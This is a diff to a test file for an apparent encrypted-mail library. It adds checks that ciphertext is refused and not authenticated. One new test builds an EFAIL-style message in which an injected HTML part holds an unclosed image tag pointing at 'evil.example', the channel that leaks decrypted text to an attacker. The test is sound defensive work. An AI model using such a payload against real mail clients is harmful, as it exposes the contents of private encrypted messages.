@@ -8,6 +8,7 @@ from pathlib import Path
 
 import pytest
 
+from letterlock import limits
 from letterlock.cms import RecipientKey
 from letterlock.keystore.failures import WrongPassphrase
 from letterlock.operations import identities, trust
@@ -106,6 +107,7 @@ def test_no_key(mail: DemoMail, settings: TrustSettings) -> None:
     """Without the key: for whom it was made, and nothing shown."""
     message = opened(mail.enveloped(), settings, [])
     assert message.verdict.encryption.status == "undecryptable"
+    assert not message.verdict.encryption.authenticated
     assert message.verdict.headline.code == "encryption_undecryptable"
     assert codes(message)[0] == "no_recipient_key"
     assert message.parts == []
@@ -143,8 +145,33 @@ def test_an_encrypted_part_is_not_opened(mail: DemoMail, settings: TrustSettings
     )
     message = opened(raw, settings, keys)
     assert message.verdict.encryption.status == "refused"
+    assert not message.verdict.encryption.authenticated
     assert codes(message)[0] == "encrypted_part"
     assert b"18,400" not in text(message)
+
+
+def test_ciphertext_is_not_opened_beside_a_clear_part_of_a_signed_message(
+    mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]
+) -> None:
+    """EFAIL in other clothes: a signed message of somebody's own, with clear text as a third part."""
+    raw = mail.sign("Offer", entity(mail.encrypt("Offer", TEXT)))
+    boundary = b"--" + raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
+    third = boundary + b"\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.example/?\r\n"
+    message = opened(raw.replace(boundary + b"--", third + boundary + b"--"), settings, keys)
+    assert message.verdict.encryption.status == "refused"
+    assert message.verdict.signature.status == "partial"
+    assert b"18,400" not in text(message)
+
+
+def test_content_that_cannot_be_taken_apart(mail: DemoMail, settings: TrustSettings, keys: list[RecipientKey]) -> None:
+    """Decrypted, and then no mail that anybody could show: not opened, and why."""
+    parts = b"--b\r\n\r\nx\r\n" * (limits.MIME_PARTS + 1)
+    content = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n"
+    message = opened(mail.encrypt("Offer", content, "-aes-256-gcm"), settings, keys)
+    assert (message.verdict.encryption.status, message.verdict.encryption.authenticated) == ("undecryptable", False)
+    assert (message.verdict.headline.code, codes(message)[0]) == ("encryption_failed", "too_many_parts")
+    assert [layer.status for layer in message.verdict.layers] == ["not_opened"]
+    assert message.parts == []
 
 
 def test_wrong_passphrase(mail: DemoMail, tmp_path: Path) -> None:
